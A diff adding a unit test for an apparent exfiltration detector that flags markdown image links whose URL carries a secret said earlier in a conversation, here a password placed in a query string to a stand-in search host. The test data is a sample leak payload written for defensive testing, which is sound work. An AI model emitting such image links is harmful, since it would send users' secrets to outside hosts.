@@ -103,6 +103,14 @@ def test_find_exfiltration__plain_address__passes(text: str) -> None:
     assert find_exfiltration(text, SAID) == []
 
 
+def test_find_exfiltration__same_address_in_a_link_and_in_images__each_judged_as_it_stands() -> None:
+    address = "https://search.example/?q=Tr0ub4dor%263"
+    said = Conversation(["The door opens with Tr0ub4dor&3."])
+    for _ in range(2):
+        found = find_exfiltration(f"{address} ![x]({address}) {address} ![y]({address})", said)
+        assert [(url.form, url.start) for url in found] == [("image", 45), ("image", 131)]
+
+
 @pytest.mark.parametrize("before", range(7))
 @pytest.mark.parametrize("carried", ["merger with Acme", "emcA htiw regrem"])
 def test_find_exfiltration__much_was_said__found_wherever_it_stands(carried: str, before: int) -> None:
